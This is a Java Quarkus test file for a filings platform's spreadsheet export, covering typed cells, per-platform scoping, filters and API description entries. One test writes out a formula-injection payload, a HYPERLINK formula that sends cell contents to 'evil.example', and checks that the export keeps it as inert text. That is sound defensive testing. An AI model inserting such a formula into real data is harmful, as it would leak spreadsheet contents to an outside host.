package io.carefile.export;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasKey;
import static org.hamcrest.Matchers.not;
import static org.hamcrest.Matchers.startsWith;

import io.carefile.support.SubmittedReturns;
import io.carefile.support.TestPlatforms;
import io.carefile.support.TestPlatforms.TestPlatform;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.http.ContentType;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFRow;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/**
 * The list endpoints answer a spreadsheet when asked for one: the same filters and scope as the
 * JSON list, every page of it, typed cells, and user text a spreadsheet never evaluates. In tests
 * an export of more than two rows goes to the background (BackgroundExportTest).
 */
@QuarkusTest
class SpreadsheetExportTest {

  private static final int FILING_ID = 0;
  private static final int PLATFORM_ID = 1;

  @Test
  void aPlatformsFilingsRegisterHoldsOnlyItsOwnReturnsWithTypedCells() throws IOException {
    TestPlatform own = TestPlatforms.newPlatform();
    TestPlatform other = TestPlatforms.newPlatform();
    String filing = SubmittedReturns.csamQ(own);
    SubmittedReturns.csamQ(other);

    Response answer = spreadsheet(SubmittedReturns.as(own.officer()), "/api/v1/filings");

    answer
        .then()
        .statusCode(200)
        .contentType(Exports.SPREADSHEET)
        .header("Content-Disposition", startsWith("attachment; filename=\"filings-"));
    try (XSSFWorkbook book = workbook(answer)) {
      XSSFSheet data = book.getSheet("Filings register");
      assertThat(data.getRow(0).getCell(FILING_ID).getStringCellValue()).isEqualTo("Filing id");
      assertThat(column(data, PLATFORM_ID)).containsExactly(own.platformId());
      XSSFRow row = data.getRow(1);
      assertThat(row.getCell(FILING_ID).getStringCellValue()).isEqualTo(filing);
      assertThat(row.getCell(3).getStringCellValue()).isEqualTo("CSAM-Q");
      assertThat(DateUtil.isCellDateFormatted(row.getCell(5))).isTrue();
      assertThat(row.getCell(5).getLocalDateTimeCellValue().toLocalDate())
          .isEqualTo(SubmittedReturns.currentQuarter());
      assertThat(row.getCell(9).getCellType()).isEqualTo(CellType.NUMERIC);
      assertThat(row.getCell(9).getNumericCellValue()).isEqualTo(1d);
      assertThat(row.getCell(11).getStringCellValue()).startsWith("DCR-");
      assertThat(DateUtil.isCellDateFormatted(row.getCell(12))).isTrue();
      assertThat(row.getCell(16).getCellType()).isEqualTo(CellType.BOOLEAN);
      assertThat(data.getPaneInformation().isFreezePane()).isTrue();
      assertThat(data.getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A1:R2");
      XSSFSheet about = book.getSheetAt(0);
      assertThat(about.getSheetName()).isEqualTo("About");
      assertThat(about.getRow(2).getCell(1).getStringCellValue()).contains(own.officer());
      assertThat(about.getRow(5).getCell(1).getStringCellValue())
          .isEqualTo("None: every record you may see");
    }
  }

  @Test
  void aRegulatorsFiltersApplyAndAreListedOnTheAboutSheet() throws IOException {
    TestPlatform platform = TestPlatforms.newPlatform();
    String filing = SubmittedReturns.csamQ(platform);

    Response answer =
        spreadsheet(
            SubmittedReturns.as("regulator-analyst")
                .queryParam("platformId", platform.platformId()),
            "/api/v1/filings");

    answer.then().statusCode(200);
    try (XSSFWorkbook book = workbook(answer)) {
      assertThat(column(book.getSheetAt(1), FILING_ID)).containsExactly(filing);
      XSSFSheet about = book.getSheetAt(0);
      assertThat(about.getRow(5).getCell(0).getStringCellValue()).isEqualTo("Filters");
      assertThat(about.getRow(6).getCell(0).getStringCellValue()).isEqualTo("platformId");
      assertThat(about.getRow(6).getCell(1).getStringCellValue()).isEqualTo(platform.platformId());
    }
  }

  @Test
  void aPlatformCannotExportAnotherPlatformsRowsByNamingIt() throws IOException {
    TestPlatform own = TestPlatforms.newPlatform();
    TestPlatform other = TestPlatforms.newPlatform();
    SubmittedReturns.csamQ(other);

    Response answer =
        spreadsheet(
            SubmittedReturns.as(own.officer()).queryParam("platformId", other.platformId()),
            "/api/v1/filings");

    answer.then().statusCode(200);
    try (XSSFWorkbook book = workbook(answer)) {
      assertThat(book.getSheetAt(1).getLastRowNum()).as("the header alone").isZero();
    }
  }

  @Test
  void aFilterTheListRefusesIsRefusedTheSameWay() {
    spreadsheet(
            SubmittedReturns.as("regulator-analyst").queryParam("status", "LOST"),
            "/api/v1/filings")
        .then()
        .statusCode(400)
        .contentType("application/problem+json")
        .body("errors[0].field", containsString("status"));
    spreadsheet(
            SubmittedReturns.as("regulator-analyst")
                .queryParam("from", "2026-06-30")
                .queryParam("to", "2026-01-01"),
            "/api/v1/obligations")
        .then()
        .statusCode(400)
        .body("type", equalTo("urn:carefile:problem:invalid-date-range"));
  }

  @Test
  void aWaiverReasonThatLooksLikeAFormulaComesBackAsText() throws IOException {
    TestPlatform platform = TestPlatforms.newPlatform();
    LocalDate quarter = SubmittedReturns.currentQuarter();
    String obligation = platform.obligation("CSAM-Q", quarter);
    String hostile = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Details\")";
    SubmittedReturns.as("regulator-admin")
        .contentType(ContentType.JSON)
        .body(Map.of("reason", hostile, "expectedVersion", 0))
        .post("/api/v1/obligations/" + obligation + "/waiver")
        .then()
        .statusCode(200);

    Response answer =
        spreadsheet(
            SubmittedReturns.as("regulator-analyst")
                .queryParam("platformId", platform.platformId())
                .queryParam("templateCode", "CSAM-Q")
                .queryParam("from", quarter.toString())
                .queryParam("to", quarter.toString()),
            "/api/v1/obligations");

    answer.then().statusCode(200);
    try (XSSFWorkbook book = workbook(answer)) {
      XSSFSheet data = book.getSheet("Obligations");
      assertThat(column(data, 0)).containsExactly(obligation);
      XSSFCell reason = data.getRow(1).getCell(8);
      assertThat(reason.getCellType()).isEqualTo(CellType.STRING);
      assertThat(reason.getStringCellValue()).isEqualTo(hostile);
      assertThat(reason.getCellStyle().getQuotePrefixed()).isTrue();
      assertThat(data.getRow(1).getCell(7).getStringCellValue()).isEqualTo("WAIVED");
    }
  }

  @Test
  void theApiDescriptionOffersTheSpreadsheetBesideTheJsonList() {
    for (String list :
        List.of(
            "/api/v1/filings",
            "/api/v1/obligations",
            "/api/v1/scores",
            "/api/v1/benchmarks",
            "/api/v1/reviews",
            "/api/v1/enforcement-cases",
            "/api/v1/penalties",
            "/api/v1/audit/events")) {
      String get = "paths.'" + list + "'.get";
      RestAssured.given()
          .get("/q/openapi?format=json")
          .then()
          .statusCode(200)
          .body(get + ".responses.'200'.content", hasKey("application/json"))
          .body(get + ".responses.'200'.content", hasKey(Exports.SPREADSHEET))
          .body(
              get + ".responses.'202'.content.'application/json'.schema.'$ref'",
              equalTo("#/components/schemas/ExportStatus"))
          .body(get + ".responses.'422'.content", hasKey("application/problem+json"))
          .body(get + ".description", containsString("Accept: " + Exports.SPREADSHEET))
          .body(get, not(hasKey("x-carefile-spreadsheet-export")));
    }
  }

  static Response spreadsheet(RequestSpecification request, String path) {
    return request.accept(Exports.SPREADSHEET).get(path);
  }

  static XSSFWorkbook workbook(Response answer) throws IOException {
    return new XSSFWorkbook(new ByteArrayInputStream(answer.asByteArray()));
  }

  /** The text of one column below the header. */
  static List<String> column(XSSFSheet sheet, int index) {
    List<String> values = new ArrayList<>();
    for (int i = 1; i <= sheet.getLastRowNum(); i++) {
      values.add(sheet.getRow(i).getCell(index).getStringCellValue());
    }
    return values;
  }
}
